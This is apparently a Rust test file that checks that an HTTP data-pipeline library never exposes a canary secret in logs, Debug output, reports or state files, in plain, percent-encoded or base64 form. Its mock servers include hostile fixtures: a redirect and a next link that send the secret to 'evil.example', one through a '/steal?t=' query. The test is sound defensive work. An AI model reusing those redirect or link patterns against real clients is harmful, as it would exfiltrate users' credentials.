//! Canary secrets in every place where a credential may be, and a look into everything that a person may see:
//! not one of them is there, in plain, percent-encoded or base64 form.

use std::fmt::Write as _;
use std::io;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use headwater::SourceBuilder;
use headwater::auth::{ApiKey, Auth, Basic, Bearer};
use headwater::prelude::*;
use headwater::sink::Jsonl;
use headwater::testing::{Reply, Scripted};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use tracing_subscriber::fmt::MakeWriter;

const CANARY: &str = "c4n4ry/s3cr3t+v4lue==";

/// Everything that was logged, at every level.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().expect("nothing panics while it is held").extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl MakeWriter<'_> for Log {
    type Writer = Self;
    fn make_writer(&self) -> Self {
        self.clone()
    }
}

/// The spellings of a secret, each a text that must not be seen.
fn spellings() -> Vec<String> {
    let percent = utf8_percent_encode(CANARY, NON_ALPHANUMERIC).to_string();
    vec![
        CANARY.to_owned(),
        percent.to_lowercase(),
        percent,
        CANARY.replace('/', "\\/"),
        STANDARD.encode(CANARY),
        URL_SAFE_NO_PAD.encode(CANARY),
        // Whatever is left of it.
        "c4n4ry".to_owned(),
        "v4lue".to_owned(),
    ]
}

/// All that a run leaves for people to see.
async fn seen(source: SourceBuilder, out: &Path) -> String {
    let mut seen = format!("{source:?}\n");
    let pipeline = Pipeline::new().source(source.build().unwrap()).sink(Jsonl::dir(out));
    let _ = writeln!(seen, "{pipeline:?}");
    match pipeline.run().await {
        Ok(report) => {
            let _ = writeln!(seen, "{report} {report:?} {}", report.to_json());
        }
        Err(failure) => {
            let _ = writeln!(seen, "{failure} {failure:?} {} {:?}", failure.error, failure.error);
            let report = failure.report.expect("it had begun");
            let _ = writeln!(seen, "{report} {report:?} {}", report.to_json());
        }
    }
    for entry in std::fs::read_dir(out.join(".headwater")).unwrap() {
        let _ = writeln!(seen, "{}", std::fs::read_to_string(entry.unwrap().path()).unwrap());
    }
    seen
}

fn items(api: &Scripted) -> SourceBuilder {
    Source::get("items", "https://api.example.com/items")
        .records("data")
        .paginate(NextUrl::body("next"))
        .retry(RetryPolicy::exponential().base(Duration::ZERO).max_attempts(2))
        .transport(api.clone())
}

/// An API that repeats whatever it was sent: in a next link, and then in the body of an error.
fn parrot() -> Scripted {
    Scripted::from_fn(|request, nth| {
        let heard: String =
            request.headers().values().map(|value| String::from_utf8_lossy(value.as_bytes()) + " ").collect();
        let heard =
            format!("{} {heard} {} {}", request.url(), STANDARD.encode(CANARY), CANARY.replace('/', "\\/"));
        match nth {
            1 => {
                let next = format!(
                    "{}{}page=2",
                    request.url(),
                    if request.url().query().is_some() { "&" } else { "?" }
                );
                Reply::json(serde_json::json!({"data": [1], "next": next}).to_string())
            }
            2 => Reply::status(503).body(heard),
            _ => Reply::status(400).body(heard),
        }
    })
}

#[tokio::test]
async fn no_canary_is_ever_seen() {
    let log = Log::default();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(log.clone())
        .without_time()
        .finish();
    let _logging = tracing::subscriber::set_default(subscriber);

    let leak = Scripted::from_fn(|_, _| {
        let next = format!("/items?access_token={}&page=2", utf8_percent_encode(CANARY, NON_ALPHANUMERIC));
        Reply::json(serde_json::json!({"data": [1], "next": next}).to_string())
    });
    let elsewhere = Scripted::from_fn(|request, _| {
        Reply::redirect(&format!("https://evil.example/?u={}", request.url()))
    });
    let places: Vec<(&str, SourceBuilder)> = vec![
        ("a bearer token", items(&parrot()).bearer(CANARY)),
        ("a user name", items(&parrot()).basic(CANARY, "")),
        ("a password", items(&parrot()).basic("user", CANARY)),
        ("a key in a header", items(&parrot()).api_key_header("X-Api-Key", CANARY)),
        ("a key in the query", items(&parrot()).api_key_query("api_key", CANARY)),
        ("a key in the query, by hand", items(&parrot()).query("api_key", CANARY)),
        ("a key in a header, by hand", items(&parrot()).header("X-Auth-Token", CANARY)),
        ("a key in the URL", by_url(&parrot())),
        ("a next link that repeats the token under another name", items(&leak).bearer(CANARY)),
        ("a redirect that repeats the key", items(&elsewhere).api_key_query("api_key", CANARY)),
        ("a body", with_body()),
        ("a token in a bad next link", items(&bad_link()).bearer(CANARY)),
    ];
    assert_eq!(places.len(), 12);
    for (place, source) in places {
        let out = tempfile::tempdir().unwrap();
        let seen = seen(source, out.path()).await;
        for spelling in spellings() {
            assert!(!seen.contains(&spelling), "{place}: {spelling} is in {seen}");
        }
        assert!(seen.contains("items"), "{place}: nothing was looked at");
    }
    let log = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
    for spelling in spellings() {
        assert!(!log.contains(&spelling), "{spelling} is in the log: {log}");
    }
    assert!(log.contains("asked for again"), "the log was not on: {log}");
}

fn by_url(api: &Scripted) -> SourceBuilder {
    let url =
        format!("https://api.example.com/items?token={}", utf8_percent_encode(CANARY, NON_ALPHANUMERIC));
    Source::get("items", url).records("data").paginate(NextUrl::body("next")).transport(api.clone())
}

fn with_body() -> SourceBuilder {
    let request =
        Request::post("https://api.example.com/items").unwrap().json(serde_json::json!({"password": CANARY}));
    // What the parrot does not repeat cannot leak; the definition and `Debug` could.
    let quiet = Scripted::from_fn(|_, _| Reply::status(400).body("bad"));
    Source::request("items", request).records("data").paginate(Single).transport(quiet)
}

fn bad_link() -> Scripted {
    Scripted::from_fn(|_, _| {
        let next = format!("https://evil.example/steal?t={CANARY}");
        Reply::json(serde_json::json!({"data": [1], "next": next}).to_string())
    })
}

#[test]
fn no_credential_can_be_printed() {
    let auths: [Box<dyn Auth>; 4] = [
        Box::new(Bearer::new(CANARY).unwrap()),
        Box::new(Basic::new(CANARY, CANARY).unwrap()),
        Box::new(ApiKey::header("X-Key", CANARY).unwrap()),
        Box::new(ApiKey::query("key", CANARY)),
    ];
    for auth in auths {
        let shown = format!("{auth:?} {auth:#?}");
        assert!(!shown.contains("c4n4ry") && !shown.contains(&STANDARD.encode(CANARY)), "{shown}");
    }
}
